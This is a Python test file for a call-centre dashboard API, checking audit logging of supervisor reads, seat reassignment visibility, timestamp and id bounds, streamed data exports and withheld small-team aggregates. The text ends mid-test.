"""Dashboard JSON API: whose data a read is audited on, live views after a seat changes hands,
input bounds, streamed exports, campaign writes, the agent's audit view, aggregates."""

from __future__ import annotations

import html
import json
import os
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from dashboard import db as store
from dashboard import retention, schema
from dashboard.settings import DashboardSettings
from tests._fixtures_broker import wait_until
from tests._fixtures_dashboard import (
    ADMIN_PASSWORD,
    ADMIN_USER,
    USER_PASSWORD,
    client,
    csrf_header,
    login_as,
    make_settings,
    seat_unchecked,
)


def query(settings: DashboardSettings, sql: str, *args: Any) -> list[tuple[Any, ...]]:
    db = store.open_db(settings.db_path)
    try:
        return list(db.conn.execute(sql, args).fetchall())
    finally:
        db.conn.close()


def reseat(settings: DashboardSettings, box: str, agent: str, team: str | None = None) -> None:
    db = store.open_db(settings.db_path)
    try:
        if team is None:
            with db.conn:
                schema.assign_seat(db, box, agent)
        else:
            schema.import_inventory(db, [{"box": box, "agent": agent, "team": team}],
                                    site=settings.site)
    finally:
        db.conn.close()


# ------------------------------------------------------------- box reads after re-seating
def test_a_box_read_is_audited_on_the_agents_whose_rows_were_read(org: Any) -> None:
    """box-a1 goes to agent-a2: the 240 rows sup-a reads there are agent-a1's, and the read is
    in agent-a1's audit view, not agent-a2's."""
    settings, data = org
    reseat(settings, "box-a1", "agent-a2")
    with client(settings) as c:
        login_as(c, "sup-a", data)
        rows = c.get("/api/boxes/box-a1/metrics", params={"limit": 5000}).json()["metrics"]
        assert len(rows) == 240
    entries = query(settings, "SELECT agent, detail FROM audit_log "
                              "WHERE action = 'read_box_metrics'")
    assert [(a, json.loads(d)["rows"]) for a, d in entries] == [("agent-a1", 240)]
    with client(settings) as c:
        login_as(c, "amina", data)
        seen = c.get("/api/agents/agent-a1/audit").json()["entries"]
        assert [(e["actor"], e["action"]) for e in seen] == [("sup-a", "read_box_metrics")]


def test_the_live_views_hide_the_previous_agents_rows_after_a_seat_changes_hands(
        org: Any) -> None:
    """box-b1 (team B's agent-b1) goes to agent-a3 of team A: sup-a sees the seat but neither
    agent-b1's latest metrics in /api/boxes nor their talk states in the stream's snapshot, as
    /api/boxes/box-b1/metrics gives no row; the admin still sees them."""
    from dashboard import access
    from dashboard.routes import stream

    settings, data = org
    reseat(settings, "box-b1", "agent-a3", team="team-a")
    with client(settings) as c:
        login_as(c, "sup-a", data)
        boxes = {b["box"]: b for b in c.get("/api/boxes").json()["boxes"]}
        assert boxes["box-b1"]["metrics"] is None
        assert boxes["box-a1"]["metrics"]["seq"] == 240  # the team's own seats are untouched
        assert c.get("/api/boxes/box-b1/metrics").json()["metrics"] == []
    with client(settings) as c:
        login_as(c, "admin", data)
        boxes = {b["box"]: b for b in c.get("/api/boxes").json()["boxes"]}
        assert boxes["box-b1"]["metrics"]["seq"] == 240
    db = store.open_db(settings.db_path)
    try:
        user = access.load_user(db, "sup-a")
        allowed, agents = access.visible_boxes(db, user), access.visible_agents(db, user)
    finally:
        db.conn.close()
    snap = {b["box"]: b for b in stream._snapshot(settings.db_path, settings.site, allowed,
                                                    agents)["boxes"]}
    assert snap["box-b1"]["metrics"] is None and snap["box-b1"]["history"] == []
    assert len(snap["box-a1"]["history"]) == stream.HISTORY
    full = stream._snapshot(settings.db_path, settings.site, None, None)["boxes"]
    assert len(next(b for b in full if b["box"] == "box-b1")["history"]) == stream.HISTORY


def _live_updates(url: str, session: str, publish: Any, last_seq: int) -> list[int]:
    """Open the floor's stream with ``session``, call ``publish`` once its snapshot came, and
    return the seqs of the metrics updates received until ``last_seq``'s."""
    import httpx

    seqs: list[int] = []
    with httpx.Client(base_url=url, timeout=10.0) as c, \
            c.stream("GET", "/api/stream", headers={"cookie": f"__Host-miroir={session}"}) as s:
        assert s.status_code == 200
        name = None
        for line in s.iter_lines():
            if line.startswith("event: "):
                name = line[7:]
            elif line.startswith("data: ") and name == "snapshot":
                publish()
            elif line.startswith("data: ") and name == "update":
                update = json.loads(line[6:])
                if update["kind"] == "metrics":
                    seqs.append(update["seq"])
                    if update["seq"] == last_seq:
                        return seqs
    raise AssertionError(f"the stream ended before seq {last_seq}: {seqs}")


def test_the_live_floor_does_not_push_the_previous_agents_rows_after_a_seat_changes_hands(
        dashboard_server: Any, site: Any, peer: Any) -> None:
    """box-b went from agent-old (team-old) to agent-new (team-new) two minutes ago, then sends
    its backlog: a row measured while agent-old sat there, then one of agent-new's. Through the
    real broker and ingest, the floor's stream of team-new's supervisor and agent-new's own
    stream push agent-new's row only (they pushed agent-old's too), as the snapshot and
    /api/boxes/box-b/metrics hide it."""
    from dashboard import auth
    from miroir import wire
    from tests._fixtures_dashboard import USER_PASSWORD, http_login

    settings = dashboard_server.settings
    now = time.time()
    db = store.open_db(settings.db_path)
    try:
        for agent, team, since in (("agent-old", "team-old", now - 600),
                                   ("agent-new", "team-new", now - 120)):
            schema.import_inventory(db, [{"box": "box-b", "agent": agent, "team": team}],
                                    site=settings.site, now=since)
        auth.create_user(db, "sup-new", USER_PASSWORD, "supervisor", teams=["team-new"])
        auth.create_user(db, "new", USER_PASSWORD, "agent", agent="agent-new")
    finally:
        db.conn.close()
    box = peer(site.box("box-b"), "box-b")
    topic = wire.topic(settings.site, "box-b", "metrics")

    def row(seq: int, ts: float) -> bytes:
        return wire.encode("metrics", {
            "v": wire.SCHEMA_VERSION, "site": settings.site, "box": "box-b", "ts": ts,
            "seq": seq, "t_start": float(seq), "window_s": 1.0, "near_speech_ratio": 0.5,
            "far_speech_ratio": 0.2, "near_talking": True, "far_talking": False,
            "talk_state": "agent"})

    for k, user in enumerate(("sup-new", "new")):
        import httpx

        with httpx.Client(base_url=dashboard_server.url, timeout=10.0) as c:
            session = http_login(c, user, USER_PASSWORD)
        old, new = 2 * k + 1, 2 * k + 2

        def publish(old: int = old, new: int = new) -> None:
            box.publish(topic, row(old, now - 300 + old))  # agent-old's, from the box's outbox
            box.publish(topic, row(new, now - 5 + new))

        assert _live_updates(dashboard_server.url, session, publish, new) == [new], user
    assert query(settings, "SELECT count(*) FROM metrics WHERE box = 'box-b'") == [(4,)]


# ------------------------------------------------------------------------- timestamps
def test_a_call_or_a_flag_more_than_a_day_ahead_is_refused_as_a_boxs_message_is(org: Any) -> None:
    """A call could start (or end) in 2099 and a moment be flagged then: the call sorted first on
    the agent's pages for ever and, as the retention purge goes by its start, was never purged.
    The rule the boxes' messages have holds for them too: more than a day (ingest.MAX_FUTURE_S)
    ahead of the dashboard's clock is a 422, the flag form's page says it in French; a clock a
    few minutes or hours ahead is still taken."""
    from dashboard.ingest import MAX_FUTURE_S

    settings, data = org
    with client(settings) as c:
        login_as(c, "sup-a", data)
        hdr = csrf_header(c)
        now = time.time()
        for ahead_s in (MAX_FUTURE_S + 60, 73 * 365 * 86400.0):
            r = c.post("/api/calls", json={"agent": "agent-a2", "start_ts": now + ahead_s},
                       headers=hdr)
            assert r.status_code == 422, (ahead_s, r.text)
            r = c.post("/api/calls", json={"agent": "agent-a2", "start_ts": now,
                                           "end_ts": now + ahead_s}, headers=hdr)
            assert r.status_code == 422, (ahead_s, r.text)
            r = c.post("/api/agents/agent-a1/flags", json={"ts": now + ahead_s}, headers=hdr)
            assert r.status_code == 422, (ahead_s, r.text)
            r = c.post("/agents/agent-a1/flags", data={"ts": str(now + ahead_s),
                                                       "csrf": hdr["x-csrf-token"]},
                       headers={"accept": "text/html"})
            assert r.status_code == 422 and "plus d'un jour" in html.unescape(r.text), ahead_s
        assert query(settings, "SELECT count(*) FROM calls WHERE start_ts > ? OR end_ts > ?",
                     now + 3600, now + 3600) == [(0,)]
        assert query(settings, "SELECT count(*) FROM flags WHERE ts > ?", now + 3600) == [(0,)]
        r = c.post("/api/calls", json={"agent": "agent-a2", "start_ts": now + 600,
                                       "end_ts": now + 3600}, headers=hdr)
        assert r.status_code == 201, r.text
        assert c.post("/api/agents/agent-a1/flags", json={"ts": now + 3600}, headers=hdr
                      ).status_code == 201


def test_flag_and_call_timestamps_must_be_finite_and_between_2020_and_2100(org: Any) -> None:
    """NaN, Infinity, 1e300 or 1.0 as a flag's or a call's time is a 422 (the stored value broke
    the agent's pages with a 500); values already stored show "?" on the pages."""
    settings, data = org
    with client(settings, raise_server_exceptions=False) as c:
        login_as(c, "sup-a", data)
        hdr = csrf_header(c)
        as_json = {**hdr, "content-type": "application/json"}
        for raw in (b"NaN", b"Infinity", b"-Infinity", b"1e300", b"1.0", b"4102444801"):
            r = c.post("/api/agents/agent-a1/flags", headers=as_json,
                       content=b'{"ts": ' + raw + b', "note": "x"}')
            assert r.status_code == 422, (raw, r.status_code, r.text)
            assert r.json()["detail"][0]["loc"] == ["body", "ts"]
            r = c.post("/api/calls", headers=as_json,
                       content=b'{"agent": "agent-a2", "start_ts": ' + raw + b'}')
            assert r.status_code == 422, (raw, r.status_code, r.text)
            r = c.post("/api/calls", headers=as_json, content=(
                b'{"agent": "agent-a2", "start_ts": 1700000000, "end_ts": ' + raw + b'}'))
            assert r.status_code == 422, (raw, r.status_code, r.text)
        for raw_ts in ("nan", "inf", "1e300"):
            r = c.post("/agents/agent-a1/flags", data={"ts": raw_ts, "csrf": hdr["x-csrf-token"]})
            assert r.status_code == 422, raw_ts
        now = time.time()
        assert c.post("/api/agents/agent-a1/flags", json={"ts": now}, headers=hdr
                      ).status_code == 201
        assert c.post("/api/calls", json={"agent": "agent-a2", "start_ts": now, "end_ts": now},
                      headers=hdr).status_code == 201
        assert not query(settings, "SELECT id FROM flags WHERE ts > 4102444800 OR ts < 1577836800")

        db = store.open_db(settings.db_path)  # a database written before the bounds
        with db.conn:
            for bad in (1e300, float("inf"), float("-inf")):
                db.conn.execute("INSERT INTO flags (agent, box, ts, note, author, created_ts, "
                                "shared) VALUES ('agent-a1', 'box-a1', ?, 'x', 'sup-a', ?, 1)",
                                (bad, bad))
                db.conn.execute("INSERT INTO calls (agent, box, start_ts, end_ts) VALUES "
                                "('agent-a2', 'box-a2', ?, ?)", (bad, bad))
        db.conn.close()
        for path in ("/agents/agent-a1", "/agents/agent-a2", "/teams/team-a"):
            r = c.get(path)
            assert r.status_code == 200, path
        assert ">?<" in c.get("/agents/agent-a2").text.replace(" ", "")
    with client(settings, raise_server_exceptions=False) as c:
        login_as(c, "amina", data)
        assert c.get("/me").status_code == 200


# ---------------------------------------------------------------------------- exports
def _fill_metrics(settings: DashboardSettings, agent: str, box: str, rows: int) -> None:
    """``rows`` more per-second rows of ``agent`` at ``box``, before those it has."""
    from dashboard import analytics

    db = store.open_db(settings.db_path)
    try:
        names = analytics.metric_names(db)
        first, seq = db.conn.execute("SELECT min(ts), max(seq) FROM metrics WHERE box = ?",
                                     (box,)).fetchone()
        start = first - 1 - rows
        with db.conn:
            db.conn.execute("UPDATE seat_history SET from_ts = ? WHERE agent = ?",
                            (start - 1, agent))
            db.conn.executemany(
                f"INSERT INTO metrics (box, seq, ts, ingested_ts, talk_state, {', '.join(names)}) "
                f"VALUES (?, ?, ?, ?, 'agent', {', '.join('?' for _ in names)})",
                ((box, seq + 1 + i, start + i, start + i, *[0.123456 + i % 7 for _ in names])
                 for i in range(rows)))
    finally:
        db.conn.close()


def _export_peak(settings: DashboardSettings) -> tuple[int, int]:
    """Bytes of agent-a1's JSON export and the peak of Python memory while draining it."""
    import tracemalloc

    from dashboard import retention

    total = 0
    tracemalloc.start()
    try:
        for chunk in retention.stream_export(
                settings.db_path, lambda d: retention.agent_export_chunks(d, "agent-a1")):
            total += len(chunk)
        return total, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_exports_are_streamed_from_sqlite_in_pages_with_flat_memory(
        org: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """The CSV and JSON exports come as a stream (no content-length: the body is written as it
    is read, EXPORT_BATCH_ROWS at a time) with the in-memory export's content; draining 4 times
    more rows does not take more memory."""
    import pydantic_core

    from dashboard import retention

    settings, data = org
    monkeypatch.setattr(retention, "EXPORT_BATCH_ROWS", 100)
    _fill_metrics(settings, "agent-a1", "box-a1", 1000)
    with client(settings) as c:
        login_as(c, "amina", data)  # before the expected export: it holds her login
        db = store.open_db(settings.db_path)
        try:
            expected = json.loads(pydantic_core.to_json(retention.agent_export(db, "agent-a1"),
                                                        inf_nan_mode="null"))
            expected_csv = "".join(retention.metrics_csv_chunks(db, ["agent-a1"]))
        finally:
            db.conn.close()
        r = c.get("/api/agents/agent-a1/export.json")
        assert r.status_code == 200 and "content-length" not in r.headers
        assert r.headers["content-type"] == "application/json"
        got = json.loads(r.content)
        for export in (got, expected):  # the request itself moves her session's last activity
            export["sessions"] = [{k: v for k, v in row.items() if not k.startswith("last_seen")}
                                  for row in export["sessions"]]
        assert got == expected and len(expected["metrics"]) == 1240
        r = c.get("/api/agents/agent-a1/export.csv")
        assert r.status_code == 200 and "content-length" not in r.headers
        assert r.text == expected_csv and len(expected_csv.splitlines()) == 1241
    with client(settings) as c:
        login_as(c, "sup-a", data)
        r = c.get("/api/teams/team-a/export.csv")
        assert r.status_code == 200 and "content-length" not in r.headers
        assert len(r.text.splitlines()) == 1 + 1240 + 240

    monkeypatch.setattr(retention, "EXPORT_BATCH_ROWS", 500)
    _fill_metrics(settings, "agent-a1", "box-a1", 4000)
    small, small_peak = _export_peak(settings)
    _fill_metrics(settings, "agent-a1", "box-a1", 16_000)
    large, large_peak = _export_peak(settings)
    assert large > 3.5 * small and large > 10_000_000
    assert large_peak < 1.5 * small_peak, (small, small_peak, large, large_peak)


def _store_call(settings: DashboardSettings, box: str, start_ts: float) -> None:
    """One real call through the edge pipeline (an EmoDB prospect, 30 s), its messages stored by
    the ingest's own inserts as if ``box`` had published them from ``start_ts`` on."""
    from edge.pipeline import Pipeline, load_vad_model
    from miroir import wire
    from tests.test_prospect_tense import _prospect_call

    audio = _prospect_call("N")[:, : 16000 * 30]
    pipe = Pipeline(load_vad_model())
    messages = [m for i in range(0, audio.shape[1], 1024) for m in pipe(audio[:, i:i + 1024])]
    db = store.open_db(settings.db_path)
    try:
        for seq, m in enumerate([*messages, *pipe.stop()], start=50_000):
            body = {"v": wire.SCHEMA_VERSION, "site": settings.site, "box": box, "seq": seq,
                    "ts": start_ts + (seq - 50_000) * 0.01, **m.body}
            msg = wire.decode(m.kind, wire.encode(m.kind, body))
            (store.insert_metrics if m.kind == "metrics" else store.insert_event)(db, msg, start_ts)
    finally:
        db.conn.close()


def _filled(settings: DashboardSettings, table: str, box: str) -> set[str]:
    """The columns of ``table`` that hold a value in a row of ``box`` from :func:`_store_call`."""
    cols = [r[1] for r in query(settings, f"PRAGMA table_info({table})")]
    return {c for c in cols if query(settings, f"SELECT count(*) FROM {table} WHERE box = ? AND "
                                               f"seq >= 50000 AND {c} IS NOT NULL", box)[0][0]}


def test_the_agent_s_export_holds_every_stored_field_and_nothing_of_another_agent(
        org: Any) -> None:
    """A real call of agent-a1 and one of agent-a2, as their boxes published them: amina's
    export.json holds every field stored of her rows (it held 39 of the 75 metrics columns
    holding a value, and 5 of the 54 of her events: no call summary, no cue evidence), her
    account and its login attempts (with their address), and nothing of agent-a2's."""
    from dashboard import db as dstore
    from tests._fixtures_dashboard import failed_login

    settings, data = org
    now = time.time()
    _store_call(settings, "box-a1", now - 40)
    _store_call(settings, "box-a2", now - 40)
    with client(settings) as c:
        login_as(c, "amina", data)
        db = dstore.open_db(settings.db_path)  # then someone tries her password elsewhere
        failed_login(db, "amina", "10.0.0.7")
        failed_login(db, "sup-a", "10.0.0.8")
        db.conn.close()
        full = c.get("/api/agents/agent-a1/export.json").json()
    mine = [r for r in full["metrics"] if r["seq"] >= 50_000]
    events = [r for r in full["events"] if r["seq"] >= 50_000]
    assert mine and any(e["name"] == "call_end" for e in events)
    for rows, table in ((mine, "metrics"), (events, "events")):
        stored = _filled(settings, table, "box-a1")
        exported = {k for r in rows for k, v in r.items() if v is not None}
        assert stored - exported == set(), table
        assert {r["box"] for r in rows} == {"box-a1"}
    end = next(e for e in events if e["name"] == "call_end")
    assert end["call_duration_s"] == query(
        settings, "SELECT call_duration_s FROM events WHERE box = 'box-a1' AND name = 'call_end'"
        " AND seq >= 50000")[0][0]
    assert [a["username"] for a in full["account"]] == ["amina"]
    assert "password_hash" not in full["account"][0] and "totp_secret" not in full["account"][0]
    assert {(a["username"], a["addr"]) for a in full["login_attempts"]} >= {("amina", "10.0.0.7")}
    assert {a["username"] for a in full["login_attempts"]} == {"amina"}
    text = json.dumps(full)
    assert "agent-a2" not in text and "box-a2" not in text
    # every time also readable (it was epoch seconds only: 1795885707.95)
    row = mine[0]
    assert row["time_utc"] == time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(row["ts"]))
    assert all("time_utc" in r for part in ("metrics", "events", "audit_log") for r in full[part])
    assert all(r["from_utc"].endswith("Z") for r in full["seat_history"])


def test_the_agent_s_export_holds_every_table_that_names_her(org: Any) -> None:
    """amina logs in (a session, a known browser), a supervisor flags her, she asks for all her
    data: of the 10 tables naming her id or username, her export.json left out 2, her open
    sessions and her known browser (when she logged in and was last active: the dashboard keeps
    a browser 90 days). Both are now in it, their times only (never a token)."""
    settings, data = org
    with client(settings) as c:
        login_as(c, "sup-a", data)
        assert c.post("/api/agents/agent-a1/flags", headers=csrf_header(c),
                      json={"ts": time.time() - 30, "note": "rythme"}).status_code == 201
    with client(settings) as c:
        login_as(c, "amina", data)
        full = c.get("/api/agents/agent-a1/export.json").json()
    sections = {"agents": "agent", "users": "account", "login_attempts": "login_attempts",
                "seats": "seat_history", "seat_history": "seat_history",
                "daily_aggregates": "daily_aggregates", "calls": "calls", "flags": "flags",
                "goals": "goals", "audit_log": "audit_log", "known_devices": "known_browsers",
                "sessions": "sessions"}
    naming = set()
    for (table,) in query(settings, "SELECT name FROM sqlite_master WHERE type = 'table'"):
        cols = [r[1] for r in query(settings, f"PRAGMA table_info({table})")]
        where = " OR ".join(f"CAST({c} AS TEXT) IN ('agent-a1', 'amina')" for c in cols)
        if query(settings, f"SELECT count(*) FROM {table} WHERE {where}")[0][0]:
            naming.add(table)
    assert naming - set(sections) == set()
    assert [t for t in sorted(naming) if not full.get(sections[t])] == []
    assert len(full["sessions"]) == 1 and len(full["known_browsers"]) == 1
    assert set(full["sessions"][0]) == {"created_ts", "created_utc", "last_seen_ts",
                                        "last_seen_utc", "stage"}
    assert set(full["known_browsers"][0]) == {"last_login_ts", "last_login_utc"}


def test_a_team_board_read_is_in_each_shown_agent_s_audit_log(org: Any) -> None:
    """sup-a sets agent-a1 a goal, then opens the team board (page and API), which shows her
    goal's daily progress: amina's audit log (API and /me) lists the board, as it lists every
    supervisor read of her data. It was logged once for the team, with no agent: she never saw
    it."""
    settings, data = org
    with client(settings) as c:
        login_as(c, "sup-a", data)
        assert c.post("/api/agents/agent-a1/goals", headers=csrf_header(c), json={
            "metric": "near_speech_ratio", "label": "laisser parler"}).status_code == 201
        board = c.get("/api/teams/team-a/board").json()
        assert [g["label"] for a in board["agents"] if a["agent"] == "agent-a1"
                for g in a["goals"]] == ["laisser parler"]
        assert c.get("/teams/team-a").status_code == 200
    with client(settings) as c:
        login_as(c, "amina", data)
        audit = c.get("/api/agents/agent-a1/audit").json()
        html = c.get("/me").text
    boards = [e for e in audit["entries"] if e["action"] == "team_board"]
    assert [(e["actor"], json.loads(e["detail"])) for e in boards] == \
        [("sup-a", {"team": "team-a"})] * 2
    assert "a ouvert le tableau d" in html.split('id="audit-list"')[1]
    assert query(settings, "SELECT count(*) FROM audit_log WHERE action = 'team_board' AND "
                           "agent = 'agent-b1'")[0][0] == 0


def test_a_flag_or_a_goal_about_an_agent_is_in_their_audit_log(org: Any) -> None:
    """sup-a flags a moment of agent-a1 and sets her a goal, through the API and the agent page's
    forms: amina's audit log (API and /me) names who wrote about her and when; the flag's note
    stays in the flag (the entry holds its id). Neither was logged before."""
    settings, data = org
    with client(settings) as c:
        login_as(c, "sup-a", data)
        flag = c.post("/api/agents/agent-a1/flags", headers=csrf_header(c),
                      json={"ts": time.time() - 60, "note": "coupe la parole"}).json()["id"]
        goal = c.post("/api/agents/agent-a1/goals", headers=csrf_header(c), json={
            "metric": "near_speech_ratio", "label": "laisser parler"}).json()["id"]
        token = csrf_header(c)["x-csrf-token"]
        assert c.post("/agents/agent-a1/flags", data={"ts": str(time.time() - 30), "note": "bien",
                                                       "shared": "on", "csrf": token},
                      follow_redirects=False).status_code == 303
    rows = query(settings, "SELECT actor, agent, action, detail FROM audit_log "
                           "WHERE action IN ('flag_create', 'goal_set') ORDER BY id")
    assert [(r[0], r[1], r[2]) for r in rows] == [
        ("sup-a", "agent-a1", "flag_create"), ("sup-a", "agent-a1", "goal_set"),
        ("sup-a", "agent-a1", "flag_create")]
    assert json.loads(rows[0][3]) == {"flag": flag, "shared": False}
    assert json.loads(rows[1][3]) == {"goal": goal, "metric": "near_speech_ratio", "retired": []}
    assert "coupe" not in rows[0][3]
    with client(settings) as c:
        login_as(c, "amina", data)
        actions = [e["action"] for e in c.get("/api/agents/agent-a1/audit").json()["entries"]]
        mine = c.get("/me").text.split('id="audit-list"')[1]
    assert actions.count("flag_create") == 2 and actions.count("goal_set") == 1
    assert "a signalé un moment" in mine and "a fixé un objectif" in mine


# -------------------------------------------------------------------------- campaigns
def test_calls_go_only_into_campaigns_the_user_may_change_and_every_write_is_audited(
        org: Any) -> None:
    """sup-a may see but not change the admin's team-less camp-all: a call into it, by campaign
    or by variant, is a 404 (20 such 'meeting' calls used to move its comparison); the agent's
    current camp-all is left off sup-a's calls. Recording a call, re-tagging it, its outcome and
    a new variant are in the audit log with their author, in new created_by columns."""
    settings, data = org
    with client(settings) as admin:
        login_as(admin, "admin", data)
        ha = csrf_header(admin)
        r = admin.post("/api/campaigns", headers=ha, json={
            "campaign": "camp-all", "name": "Site-wide", "variants": [{"name": "A"},
                                                                      {"name": "B"}]})
        assert r.status_code == 201
        vb = r.json()["variants"][1]["id"]
        assert admin.post("/api/campaigns/camp-all/assign", headers=ha,
                          json={"agent": "agent-a2", "variant": vb}).status_code == 200
    now = time.time()
    with client(settings) as sup:
        login_as(sup, "sup-a", data)
        hs = csrf_header(sup)
        calls_before = query(settings, "SELECT count(*) FROM calls")[0][0]
        for body in ({"campaign": "camp-all", "variant": vb}, {"campaign": "camp-all"},
                     {"variant": vb}):
            r = sup.post("/api/calls", headers=hs,
                         json={"agent": "agent-a1", "start_ts": now, **body})
            assert r.status_code == 404, body
        assert query(settings, "SELECT count(*) FROM calls")[0][0] == calls_before
        # agent-a2 is on camp-all: sup-a's call for them is recorded, without the campaign
        r = sup.post("/api/calls", headers=hs, json={"agent": "agent-a2", "start_ts": now})
        assert r.status_code == 201
        assert query(settings, "SELECT campaign, variant, created_by FROM calls WHERE id = ?",
                     r.json()["id"]) == [(None, None, "sup-a")]

        r = sup.post("/api/calls", headers=hs, json={"agent": "agent-a1", "start_ts": now,
                                                     "campaign": "camp-a", "variant": 1})
        assert r.status_code == 201
        call = r.json()["id"]
        assert sup.post(f"/api/calls/{call}/variant", headers=hs,
                        json={"variant": 2}).status_code == 200
        assert sup.post(f"/api/calls/{call}/outcome", headers=hs,
                        json={"outcome": "meeting"}).status_code == 200
        r = sup.post("/api/campaigns/camp-a/variants", headers=hs, json={"name": "Nouveau"})
        assert r.status_code == 201
        variant = r.json()["id"]
    assert query(settings, "SELECT created_by FROM calls WHERE id = ?", call) == [("sup-a",)]
    assert query(settings, "SELECT created_by FROM variants WHERE id = ?", variant) == [("sup-a",)]
    entries = [(actor, agent, action, json.loads(detail)) for actor, agent, action, detail in query(
        settings, "SELECT actor, agent, action, detail FROM audit_log WHERE actor = 'sup-a' "
                  "AND action IN ('call_create', 'call_variant', 'call_outcome', "
                  "'variant_create') ORDER BY id")]
    assert [(e[1], e[2]) for e in entries] == [
        ("agent-a2", "call_create"), ("agent-a1", "call_create"), ("agent-a1", "call_variant"),
        ("agent-a1", "call_outcome"), (None, "variant_create")]
    assert entries[1][3] == {"call": call, "campaign": "camp-a", "variant": 1}
    assert entries[2][3]["variant"] == 2 and entries[2][3]["was"]["variant"] == 1
    assert entries[4][3] == {"campaign": "camp-a", "variant": variant, "name": "Nouveau"}
    with client(settings) as c:  # the agent sees who recorded and re-tagged their calls
        login_as(c, "amina", data)
        page = c.get("/me").text
        assert "a enregistré un appel" in page and "a changé la variante d&#39;un appel" in page


def test_a_database_without_the_author_columns_gets_them(org: Any) -> None:
    settings, _ = org
    db = store.open_db(settings.db_path)
    try:
        for table in ("calls", "variants"):
            db.conn.execute(f"ALTER TABLE {table} DROP COLUMN created_by")
        calls = db.conn.execute("SELECT count(*) FROM calls").fetchone()[0]
        schema.ensure_schema(db)
        schema.ensure_schema(db)
        for table in ("calls", "variants"):
            assert "created_by" in db.table(table).columns_dict
        assert db.conn.execute("SELECT count(*) FROM calls").fetchone()[0] == calls
    finally:
        db.conn.close()


# ------------------------------------------------------------------ the agent's audit view
def test_a_flood_of_reads_cannot_hide_an_export_from_the_agent(org: Any) -> None:
    """sup-a exports agent-a1's metrics, then reads the goals 250 times: the agent's view (API
    and /me) counts each kind of access in a summary where the export stays, says how many
    entries there are, and pages back to the export."""
    settings, data = org
    with client(settings) as sup:
        login_as(sup, "sup-a", data)
        assert sup.get("/api/agents/agent-a1/export.csv").status_code == 200
        for _ in range(250):
            assert sup.get("/api/agents/agent-a1/goals").status_code == 200
    with client(settings) as c:
        login_as(c, "amina", data)
        page = c.get("/api/agents/agent-a1/audit").json()
        assert len(page["entries"]) == 200 and page["total"] == 251 and page["more"]
        summary = {(s["actor"], s["action"]): s["count"] for s in page["summary"]}
        assert summary == {("sup-a", "export_csv"): 1, ("sup-a", "read_goals"): 250}
        seen, before = [], None
        while True:
            params = {"limit": 100} | ({"before": before} if before else {})
            page = c.get("/api/agents/agent-a1/audit", params=params).json()
            seen += page["entries"]
            if not page["more"]:
                break
            before = page["next_before"]
        assert len(seen) == 251 and len({e["id"] for e in seen}) == 251
        assert seen[-1]["action"] == "export_csv"
        assert c.get("/api/agents/agent-a1/audit", params={"before": 2**64}).status_code == 422

        html = c.get("/me").text
        assert html.count('class="audit-entry"') == 100 \
            and "(100 des 251 entrées du journal)" in html
        assert "a exporté les mesures" in html  # in the summary
        older = html.split('id="audit-older" href="')[1].split('"')[0].replace("&amp;", "&")
        while older:
            html = c.get(older.split("#")[0]).text
            older = (html.split('id="audit-older" href="')[1].split('"')[0]
                     if 'id="audit-older"' in html else "")
        assert html.count('class="audit-entry"') == 51
        assert html.split('id="audit-list"')[1].count("a exporté les mesures") == 1


# ---------------------------------------------------------------------- agent metrics
def test_an_agent_window_with_too_many_rows_keeps_the_newest_and_says_so(
        org: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """With more rows than the API answers (20,000; 100 here), the answer has the newest ones,
    oldest first, and ``truncated``; the agent page has the sentence that says it."""
    from dashboard import analytics

    settings, data = org
    with client(settings) as c:
        login_as(c, "sup-a", data)
        full = c.get("/api/agents/agent-a1/metrics").json()
        assert len(full["rows"]) == 240 and full["truncated"] is False
        monkeypatch.setattr(analytics, "MAX_METRIC_ROWS", 100)
        cut = c.get("/api/agents/agent-a1/metrics").json()
        assert cut["truncated"] is True and len(cut["rows"]) == 100
        assert [r["seq"] for r in cut["rows"]] == [r["seq"] for r in full["rows"][-100:]]
        assert "Trop de mesures pour les montrer toutes" in c.get("/agents/agent-a1").text


# ------------------------------------------------------------------------- aggregates
def test_a_team_aggregate_of_fewer_than_three_agents_is_withheld(org: Any) -> None:
    """team-b has one agent: its 'aggregate' was agent-b1's own mean. Means of fewer than
    MIN_GROUP_AGENTS agents are withheld; a team of three gets its mean."""
    from dashboard.routes import api

    settings, data = org
    with client(settings) as c:
        login_as(c, "auditrice", data)
        agg = {(a["team"], a["metric"]): a for a in c.get("/api/aggregates").json()["aggregates"]}
        for team, agents in (("team-a", 2), ("team-b", 1)):
            a = agg[(team, "near_speech_ratio")]
            assert a["mean"] is None and a["withheld"] == "too few agents"
            assert a["agents"] == agents
        assert "trop peu d&#39;agents" in c.get("/audit").text
    with client(settings) as c:  # an admin sees each agent anyway: nothing to withhold
        login_as(c, "admin", data)
        agg = {(a["team"], a["metric"]): a for a in c.get("/api/aggregates").json()["aggregates"]}
        assert agg[("team-b", "near_speech_ratio")]["withheld"] is None
        assert 0 < agg[("team-b", "near_speech_ratio")]["mean"] < 1
    assert api.MIN_GROUP_AGENTS == 3
    reseat(settings, "box-b1", "agent-a3", team="team-a")  # a third agent of team A, seated
    db = store.open_db(settings.db_path)
    try:
        with db.conn:  # rows of box-b1 from now on are agent-a3's
            now = time.time()
            db.conn.execute("INSERT INTO metrics (box, seq, ts, ingested_ts, near_speech_ratio) "
                            "VALUES ('box-b1', 5000, ?, ?, 0.5)", (now, now))
    finally:
        db.conn.close()
    with client(settings) as c:
        login_as(c, "auditrice", data)
        agg = {(a["team"], a["metric"]): a for a in c.get("/api/aggregates").json()["aggregates"]}
        a = agg[("team-a", "near_speech_ratio")]
        assert a["agents"] == 3 and a["withheld"] is None and 0 < a["mean"] < 1


# ------------------------------------------------------------------------ hostile input
def test_ids_beyond_sqlite_integers_are_a_4xx_not_a_500(org: Any) -> None:
    """2**64 as a call, flag or goal id in a path or as a variant in a body was an
    OverflowError (500) when bound to SQLite: now a 422; in range but unknown stays a 404."""
    settings, data = org
    big = 2**64
    with client(settings, raise_server_exceptions=False) as c:
        login_as(c, "sup-a", data)
        hdr = csrf_header(c)
        token = hdr["x-csrf-token"]
        answers = {
            "call": c.get(f"/api/calls/{big}").status_code,
            "flag": c.get(f"/api/flags/{big}").status_code,
            "goal": c.get(f"/api/goals/{big}").status_code,
            "outcome": c.post(f"/api/calls/{big}/outcome", headers=hdr,
                              json={"outcome": "meeting"}).status_code,
